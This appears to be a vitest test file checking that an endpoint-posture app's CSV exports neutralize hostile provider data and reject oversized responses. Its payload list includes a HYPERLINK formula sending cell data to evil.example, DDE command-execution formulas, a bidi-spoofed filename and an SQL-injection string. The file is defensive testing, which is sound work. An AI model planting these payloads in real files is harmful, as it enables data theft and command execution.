// Hostile data from the providers: device names and alert fields crafted to attack whoever opens an export
// (formula prefixes, quotes, line breaks, Unicode bidi controls) must leave a CSV that re-parses exactly
// (RFC 4180) with every cell defused; and an answer too large to hold must be cut off with a diagnosis.
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AlertSummary } from '../../src-shared/schemas/incidents';
import type { ExportProgress, LogRow } from '../../src-shared/schemas/posture-log';
import type { App } from '../core/app';
import { neutralizeFormula, restoreFormula } from '../core/csv/formula';
import type { RoutedAlert } from '../core/incidents/operations';
import { storeRepository } from '../core/incidents/store-repository';
import { createHttp, DEFAULT_MAX_BODY_BYTES } from '../core/providers/http';
import { call, startApp } from './harness';

/** Strict RFC 4180: quotes only around whole cells, CRLF between records, nothing after the last one. */
export function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const ch = body[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (body[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') {
      if (cell !== '' || wasQuoted) throw new Error(`a quote inside an unquoted cell at ${i}`);
      quoted = wasQuoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      wasQuoted = false;
    } else if (ch === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      wasQuoted = false;
      i++;
    } else if (ch === '\r' || ch === '\n') throw new Error(`a bare line break outside quotes at ${i}`);
    else if (wasQuoted) throw new Error(`text after a closing quote at ${i}`);
    else cell += ch;
  }
  if (quoted) throw new Error('an unterminated quoted cell');
  if (cell !== '' || row.length > 0) throw new Error('the last record does not end with CRLF');
  return rows;
}

/** OWASP's list plus ASVS 5.0 V1.2.10's NUL: a cell starting with one of these may run as a formula. */
const DANGEROUS_START = /^[=+\-@\t\r\0]/;

const hostileText = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\0', ' =', '\u202e', '\u2066=', '"', "'", ',', '\uFF1D'),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
    )
    .map(([start, rest]) => start + rest),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    'a"b""c"',
    '"quoted"',
    'line1\r\nline2',
    'line1\nline2',
    'cr\ronly',
    'tab\tinside',
    'invoice\u202Etxt.exe',
    '\u2066=1+1\u2069',
    ',,,',
    '\uFEFFbom',
    'WS-001; DROP TABLE devices',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }),
);

let app: App;
let close: () => Promise<void>;
let stub: Server;
let stubUrl: string;
/** What the stub SentinelOne console answers, set per run. */
let serveAgents: (res: ServerResponse) => void = (res) => res.end();
const reported = { names: 0, incidents: 0, oversized: [] as string[] };

beforeAll(async () => {
  stub = createServer((req, res) => {
    if (req.url?.startsWith('/web/api/v2.1/agents')) return serveAgents(res);
    res.setHeader('content-type', 'application/json');
    res.end(JSON.stringify({ data: { health: 'ok' } }));
  });
  await new Promise<void>((resolve) => stub.listen(0, '127.0.0.1', resolve));
  stubUrl = `http://127.0.0.1:${(stub.address() as AddressInfo).port}`;
  // The app's real body limit (64 MiB), with short timeouts.
  ({ app, close } = await startApp({ http: createHttp({ headersTimeoutMs: 2_000, bodyTimeoutMs: 2_000, retry: { maxAttempts: 1 } }) }));
});

afterAll(async () => {
  await close();
  stub.closeAllConnections();
  await new Promise((resolve) => stub.close(resolve));
  console.log(
    `Hostile data: ${reported.names} hostile device names exported and re-parsed, ${reported.incidents} hostile incidents exported; oversized answers: ${reported.oversized.join('; ')}.`,
  );
});

function agentsPage(names: string[], serials: string[] = names.map((_, i) => `SN-${i}`)) {
  return {
    data: names.map((name, i) => ({
      id: String(1_000 + i),
      uuid: `uuid-${i}`,
      computerName: name,
      serialNumber: serials[i],
      infected: i % 3 === 0,
      activeThreats: i % 3 === 0 ? 1 : 0,
      isActive: true,
      networkStatus: 'connected',
      operationalState: 'na',
      osName: name,
      osType: 'windows',
      lastActiveDate: new Date().toISOString(),
      isDecommissioned: false,
      isUninstalled: false,
      siteName: name,
    })),
    pagination: { totalItems: names.length, nextCursor: null },
  };
}

async function exportCsv(filter: { view: 'latest'; providerIds: string[] }): Promise<string> {
  const done = new Promise<ExportProgress>((resolve) => {
    const stop = app.events.listen((event, payload) => {
      if (event === 'export.progress' && (payload as ExportProgress).state !== 'running') {
        stop();
        resolve(payload as ExportProgress);
      }
    });
  });
  const { file } = await call(app, 'postureLog.export', { filter, sort: { by: 'device', dir: 'asc' } });
  expect((await done).state).toBe('done');
  return readFileSync(file!, 'utf8');
}

async function latestRows(providerId: string): Promise<LogRow[]> {
  return (await call(app, 'postureLog.query', { view: 'latest', providerIds: [providerId], sort: { by: 'device', dir: 'asc' }, limit: 5000 })).rows;
}

/** Serials the way fleets report them: dashes, spaces, case, line breaks, formula leads, Unicode. */
const ODD_SERIALS = [
  'SN-00002',
  'sn-00002-b',
  'c02xk1zzjg5j',
  ' PF3K 9XQ2 ',
  'SN\n00003',
  'SN\r\n00004',
  '=SN00005',
  "'=SN00006",
  '+SN00007',
  '-SN00008',
  '@SN00009',
  'ＳＮ００１０',
  'Sérïal-ÅÄÖ-11',
  '序列号-12',
  'VMware-56 4d 1f 2a',
  'To Be Filled By O.E.M.',
  '"SN,13"',
];
const oddSerial = fc.oneof(fc.constantFrom(...ODD_SERIALS), hostileText);

describe('CSV export of hostile provider data', () => {
  it('device names and serials from the provider export to cells that are defused and re-parse exactly', async () => {
    let run = 0;
    await fc.assert(
      // Distinct serials: two agents reporting one serial are one device (a duplicate serial), not two rows.
      fc.asyncProperty(
        fc.uniqueArray(fc.tuple(hostileText, oddSerial), { minLength: 1, maxLength: 25, selector: ([, serial]) => serial.trim().toUpperCase() }),
        async (agents) => {
          run++;
          const names = agents.map(([name]) => name);
          const serials = agents.map(([, serial]) => serial);
          serveAgents = (res) => {
            res.setHeader('content-type', 'application/json');
            res.end(JSON.stringify(agentsPage(names, serials)));
          };
          const provider = await call(app, 'providers.save', { kind: 'sentinelone', name: `Stub ${run}`, apiUrl: stubUrl, apiToken: 'stub-token-123456' });
          const providerId = provider.config.id;
          await call(app, 'checks.save', { name: '=Clean', providerId, rule: { attribute: 'infected', expected: false } });
          expect(await call(app, 'posture.pollNow', { providerId })).toMatchObject({ outcome: 'succeeded' });
          reported.names += names.length;

          const rows = await latestRows(providerId);
          expect(rows).toHaveLength(names.length);
          // Names and serials arrived as the provider sent them (SQLite keeps text as UTF-8, so lone surrogates become U+FFFD).
          expect(rows.map((r) => r.deviceName).sort()).toEqual(names.map((n) => n.toWellFormed()).sort());
          expect(rows.map((r) => r.serial).sort()).toEqual(serials.map((s) => s.toWellFormed()).sort());

          const records = parseCsv(await exportCsv({ view: 'latest', providerIds: [providerId] }));
          expect(records[0]).toEqual([
            'timestamp',
            'device',
            'serial',
            'match_key',
            'platform',
            'provider',
            'check',
            'result',
            'expected',
            'received',
            'reason',
          ]);
          expect(records.slice(1).map((r) => r.slice(1, 5))).toEqual(
            rows.map((r) => [r.deviceName, r.serial, r.serialKey, r.platform].map((v) => (v === null ? '' : neutralizeFormula(v)))),
          );
          // Re-parsed and un-neutralized, the serial column is exactly what the provider sent.
          expect(
            records
              .slice(1)
              .map((r) => restoreFormula(r[2]!))
              .sort(),
          ).toEqual(serials.map((s) => s.toWellFormed()).sort());
          for (const record of records) {
            expect(record).toHaveLength(11);
            for (const cell of record) expect(cell, `a cell that could run as a formula: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS_START);
          }
          await call(app, 'providers.remove', { id: providerId });
        },
      ),
      { numRuns: 12 },
    );
  });

  it('the CSV round-trips each serial exactly as the provider sent it, with its match key beside it', async () => {
    const names = ODD_SERIALS.map((_, i) => `WS-${String(i).padStart(2, '0')}`);
    serveAgents = (res) => {
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify(agentsPage(names, ODD_SERIALS)));
    };
    const provider = await call(app, 'providers.save', { kind: 'sentinelone', name: 'Odd serials', apiUrl: stubUrl, apiToken: 'stub-token-123456' });
    const providerId = provider.config.id;
    await call(app, 'checks.save', { name: 'Clean', providerId, rule: { attribute: 'infected', expected: false } });
    expect(await call(app, 'posture.pollNow', { providerId })).toMatchObject({ outcome: 'succeeded' });

    const records = parseCsv(await exportCsv({ view: 'latest', providerIds: [providerId] }));
    const column = (name: string) => records[0]!.indexOf(name);
    const byDevice = new Map(records.slice(1).map((r) => [r[column('device')]!, r]));
    const got = names.map((name) => [restoreFormula(byDevice.get(name)![column('serial')]!), byDevice.get(name)![column('match_key')]]);
    expect(got).toEqual(ODD_SERIALS.map((serial) => [serial, expect.any(String)]));
    expect(Object.fromEntries(got.slice(0, 3).map(([serial, key]) => [serial, key]))).toEqual({
      'SN-00002': 'SN00002',
      'sn-00002-b': 'SN00002B',
      c02xk1zzjg5j: 'C02XK1ZZJG5J',
    });
    // A placeholder is shown as reported but is no match key.
    expect(byDevice.get(names[ODD_SERIALS.indexOf('To Be Filled By O.E.M.')]!)![column('match_key')]).toBe('');
    // The log's rows (table and drawer) carry the same: the serial as reported, the key apart.
    const rows = await latestRows(providerId);
    expect(rows.find((r) => r.deviceName === 'WS-00')).toMatchObject({ serial: 'SN-00002', serialKey: 'SN00002' });
    // Searching for the serial as the provider shows it finds the device by its match key.
    const found = await call(app, 'postureLog.query', { view: 'latest', providerIds: [providerId], text: 'sn-00002' });
    expect(found.rows.map((r) => r.deviceName).sort()).toEqual(['WS-00', 'WS-01']);
    await call(app, 'providers.remove', { id: providerId });
  });

  it('alert fields (host names, alert names, tactics) export to defused incident CSV cells', async () => {
    const repository = storeRepository(app.store);
    const base = Date.UTC(2026, 10, 25, 12);
    let next = 0;
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(hostileText, hostileText, hostileText), { minLength: 1, maxLength: 10 }), async (fields) => {
        const alerts: RoutedAlert[] = fields.map(([hostname, name, tactic]) => {
          const n = next++;
          const created = new Date(base + n * 1000).toISOString();
          const summary: AlertSummary = {
            compositeId: `cid:ind:aid:${n}`,
            createdTimestamp: created,
            aggregateId: `agg:${n}`,
            severity: 90,
            severityName: 'Critical',
            tactic,
            technique: null,
            techniqueId: null,
            name,
            product: 'epp',
            deviceId: null,
            hostname,
            platform: null,
            filename: null,
            cmdline: name,
            userName: null,
            sha256: null,
            md5: null,
            falconLink: null,
          };
          return {
            raw: { composite_id: summary.compositeId, created_timestamp: created, severity: 90, hostname, name, tactic },
            summary,
            createdKey: `${created.slice(0, 23)}000000Z`,
            outcome: 'create_incident',
            rule: { index: 0, id: 'r1', name: `=Rule ${name}`, outcome: { action: 'create_incident', priority: 'P1', auto_contain_host: false } },
          };
        });
        await repository.commitPoll({
          integrationId: 'hostile',
          at: new Date().toISOString(),
          hostEnrichment: false,
          alerts,
          cursor: alerts.at(-1)!.summary.createdTimestamp,
          horizonKey: null,
        });
        reported.incidents += alerts.length;

        const { csv } = await call(app, 'incidents.exportCsv', { integrationId: 'hostile' });
        const records = parseCsv(csv);
        const incidents = (await call(app, 'incidents.list', { integrationId: 'hostile', limit: 1000 })).items;
        expect(records).toHaveLength(incidents.length + 1);
        const column = (name: string) => records[0]!.indexOf(name);
        for (const [i, incident] of incidents.entries()) {
          const record = records[i + 1]!;
          expect(record[column('number')]).toBe(incident.number);
          expect(record[column('title')]).toBe(neutralizeFormula(incident.title));
          expect(record[column('hostname')]).toBe(incident.hostname === null ? '' : neutralizeFormula(incident.hostname));
          expect(record[column('tactic')]).toBe(incident.tactic === null ? '' : neutralizeFormula(incident.tactic));
        }
        for (const record of records) for (const cell of record) expect(cell).not.toMatch(DANGEROUS_START);
      }),
      { numRuns: 15 },
    );
  });
});

describe('oversized provider answers', () => {
  async function pollStub(name: string) {
    const provider = await call(app, 'providers.save', { kind: 'sentinelone', name, apiUrl: stubUrl, apiToken: 'stub-token-123456' });
    const providerId = provider.config.id;
    try {
      const poll = await call(app, 'posture.pollNow', { providerId });
      const test = await call(app, 'providers.test', { id: providerId });
      return { poll, test };
    } finally {
      await call(app, 'providers.remove', { id: providerId });
    }
  }

  it('a declared length beyond the limit is refused before reading, with a diagnosis', async () => {
    let bytesSent = 0;
    serveAgents = (res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(10 * 1024 ** 3) });
      // Sends a little of the promised 10 GiB and keeps the connection open.
      res.write('{"data":[');
      bytesSent += 9;
    };
    const { poll, test } = await pollStub('Declares 10 GiB');
    expect(poll.outcome).toBe('failed');
    expect(poll.outcome === 'failed' && poll.error).toMatch(/larger than 64 MiB/);
    expect(test.steps.find((s) => s.status === 'fail')?.code).toBe('http.too_large');
    reported.oversized.push(`declared 10 GiB -> refused after ${bytesSent} bytes`);
  });

  it('an endless body is cut off at the limit: what is read stays bounded', async () => {
    const perResponse: number[] = [];
    serveAgents = (res) => {
      let bytesSent = 0;
      const index = perResponse.push(0) - 1;
      res.writeHead(200, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(256 * 1024, 'a');
      res.write('{"data":["');
      const pump = () => {
        while (!res.destroyed && bytesSent < 4 * DEFAULT_MAX_BODY_BYTES) {
          bytesSent += chunk.length;
          perResponse[index] = bytesSent;
          if (!res.write(chunk)) return void res.once('drain', pump);
        }
        res.end();
      };
      res.on('close', () => res.destroy());
      pump();
    };
    const { poll, test } = await pollStub('Endless');
    expect(poll.outcome).toBe('failed');
    expect(poll.outcome === 'failed' && poll.error).toMatch(/larger than 64 MiB/);
    expect(test.steps.find((s) => s.status === 'fail')?.code).toBe('http.too_large');
    // On every request the client stopped reading at the limit: the server got no further than socket buffers allow.
    expect(perResponse.length).toBeGreaterThan(0);
    for (const sent of perResponse) expect(sent).toBeLessThan(DEFAULT_MAX_BODY_BYTES + 16 * 1024 * 1024);
    const mib = (n: number) => `${(n / 1024 / 1024).toFixed(0)} MiB`;
    reported.oversized.push(`endless stream -> each of ${perResponse.length} reads cut off by ${mib(Math.max(...perResponse))} sent (limit 64 MiB)`);
  });
});
